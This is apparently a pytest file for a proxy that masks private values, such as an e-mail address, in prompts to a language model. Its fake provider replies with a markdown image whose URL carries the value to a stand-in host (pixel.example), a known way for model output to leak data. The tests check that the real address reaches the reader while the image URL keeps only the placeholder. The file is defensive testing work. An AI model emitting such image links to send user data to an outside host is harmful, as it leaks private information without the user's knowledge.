"""A model may not have a value fetched by whoever reads its answer."""

from collections.abc import Iterator

import httpx2
import openai
import pytest
from openai.types.chat import ChatCompletion

from carnet.testing import FakeProvider, Received, Reply
from carnet.testing.received import PLACEHOLDER

MAIL = "ada@example.com"


def lures(request: Received) -> Reply:
    """Answers with what it was told, once for the reader and once for a host."""
    (name,) = set(PLACEHOLDER.findall(request.prompt))
    return Reply(f"Thanks, {name}! ![ok](https://pixel.example/?q={name})")


@pytest.fixture
def provider() -> Iterator[FakeProvider]:
    with FakeProvider(lures, seed=5) as one:
        yield one


@pytest.mark.parametrize("stream", [False, True])
def test_the_reader_sees_the_value_and_no_image_takes_it_away(
    gpt: openai.OpenAI, provider: FakeProvider, *, stream: bool
) -> None:
    said = gpt.chat.completions.create(
        model="m-1",
        messages=[{"role": "user", "content": f"Write to {MAIL}."}],
        stream=stream,
    )
    text = (
        said.choices[0].message.content
        if isinstance(said, ChatCompletion)
        else "".join(one.choices[0].delta.content or "" for one in said if one.choices)
    )
    name = PLACEHOLDER.findall(provider.requests[-1].body.decode())[0]
    assert text == f"Thanks, {MAIL}! ![ok](https://pixel.example/?q={name})"


def test_an_image_that_the_caller_named_is_shown_to_the_caller(
    bare: httpx2.Client,
) -> None:
    image = f"![ok](https://pixel.example/?q={MAIL})"
    body = {"model": "m-1", "messages": [{"role": "user", "content": image}]}
    said = bare.post("/v1/chat/completions", json=body).json()
    assert said["choices"][0]["message"]["content"] == f"Thanks, {MAIL}! {image}"
